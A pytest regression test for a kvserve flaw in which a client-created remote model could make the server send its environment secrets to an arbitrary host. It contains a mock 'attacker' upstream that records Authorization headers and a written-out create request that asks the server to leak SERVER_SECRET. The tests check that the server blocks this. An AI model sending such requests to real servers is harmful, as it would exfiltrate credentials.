"""Breaker findings on remote models made over HTTP (issue 35): ``POST /api/create`` with
``remote_host`` and ``remote_key_env`` lets any client of the Ollama routes point a model at a host
of its choosing and have the server send it the value of any of its environment variables as
``Authorization: Bearer ...`` (at start, on ``/api/show`` and on every chat). Ollama runs a stored
remote model only when its host is listed in ``OLLAMA_REMOTES`` (default ``ollama.com``), with 400
``this server cannot run this remote model`` otherwise; kvserve must do the same.

The "attacker's" upstream is a real HTTP server on 127.0.0.1 that records every request's
Authorization header and answers like an OpenAI server.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from servers import spawn

SECRET = "sk-server-secret-7d1e"


@pytest.fixture
def capture():
    """An OpenAI-style upstream on a free loopback port; ``.seen`` lists (method, path, auth)."""
    seen: list[tuple[str, str, str | None]] = []

    class H(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def _answer(self, body: bytes, ctype: str) -> None:
            seen.append((self.command, self.path, self.headers.get("Authorization")))
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            self._answer(json.dumps({"object": "list", "data": [{"id": "up", "object": "model"}]}).encode(),
                         "application/json")

        def do_POST(self):  # kvserve always streams from an upstream
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            chunk = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "up",
                     "choices": [{"index": 0, "delta": {"content": "stolen"}, "finish_reason": "stop"}]}
            self._answer(f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n".encode(), "text/event-stream")

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    srv.seen = seen
    srv.url = f"http://127.0.0.1:{srv.server_address[1]}/v1"
    yield srv
    srv.shutdown()
    srv.server_close()


@pytest.mark.slow
def test_created_remote_model_cannot_send_server_env_to_any_host(capture, tmp_path):
    """A model created over HTTP that names a host outside OLLAMA_REMOTES is never contacted: the
    chat and /api/show are 400 with Ollama's text, and the secret never leaves."""
    srv = spawn("", ("--no-preload",), tmp_path,
                {"KVSERVE_HOME": str(tmp_path / "home"), "SERVER_SECRET": SECRET, "OLLAMA_REMOTES": ""})
    try:
        srv.wait_ready()
        r = httpx.post(srv.url("/api/create"), timeout=30,
                       json={"model": "steal", "from": "up", "remote_host": capture.url,
                             "remote_dialect": "openai", "remote_key_env": "SERVER_SECRET", "stream": False})
        assert r.status_code == 200, r.text
        show = httpx.post(srv.url("/api/show"), json={"model": "steal"}, timeout=30)
        chat = httpx.post(srv.url("/api/chat"), timeout=30,
                          json={"model": "steal", "stream": False, "messages": [{"role": "user", "content": "hi"}]})
        assert (chat.status_code, chat.json()) == (400, {"error": "this server cannot run this remote model"})
        assert (show.status_code, show.json()) == (400, {"error": "this server cannot run this remote model"})
        assert capture.seen == []
        assert SECRET not in srv.log()
    finally:
        srv.stop()


@pytest.mark.slow
def test_created_remote_model_runs_when_host_is_in_ollama_remotes(capture, tmp_path):
    """With its host listed in OLLAMA_REMOTES (Ollama's allow-list) the same model answers."""
    srv = spawn("", ("--no-preload",), tmp_path,
                {"KVSERVE_HOME": str(tmp_path / "home"), "OLLAMA_REMOTES": "example.org,127.0.0.1"})
    try:
        srv.wait_ready()
        r = httpx.post(srv.url("/api/create"), timeout=30,
                       json={"model": "ok", "from": "up", "remote_host": capture.url,
                             "remote_dialect": "openai", "stream": False})
        assert r.status_code == 200, r.text
        chat = httpx.post(srv.url("/api/chat"), timeout=30,
                          json={"model": "ok", "stream": False, "messages": [{"role": "user", "content": "hi"}]})
        assert chat.status_code == 200, chat.text
        assert chat.json()["message"]["content"] == "stolen"
        assert ("POST", "/v1/chat/completions", None) in capture.seen
    finally:
        srv.stop()
